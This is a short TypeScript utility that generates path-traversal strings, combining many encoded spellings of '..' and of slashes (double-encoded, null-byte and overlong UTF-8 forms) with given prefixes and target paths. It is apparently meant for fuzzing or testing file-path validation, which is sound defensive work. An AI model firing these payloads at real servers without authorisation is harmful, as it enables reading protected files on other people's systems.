/** Addresses that try to climb out of a folder, in every spelling that some server once fell for. */

const UPS = ['..', '%2e%2e', '.%2e', '%2E.', '%252e%252e', '..%00', '..;', '....//..', '%c0%ae%c0%ae'];
const SLASHES = ['/', '%2f', '%5c', '\\', '%252f', '//', '%c0%af'];

/** @param depth how many folders up at most. */
export function climbingPaths(prefixes: readonly string[], targets: readonly string[], depth: number): string[] {
  const depths = Array.from({ length: depth }, (_, index) => index + 1);
  const climbs = UPS.flatMap((up) =>
    SLASHES.flatMap((slash) => depths.map((steps) => ({ steps: `${up}${slash}`.repeat(steps), slash }))),
  );
  return prefixes.flatMap((prefix) =>
    targets.flatMap((target) => climbs.map(({ steps, slash }) => prefix + steps + target.replaceAll('/', slash))),
  );
}
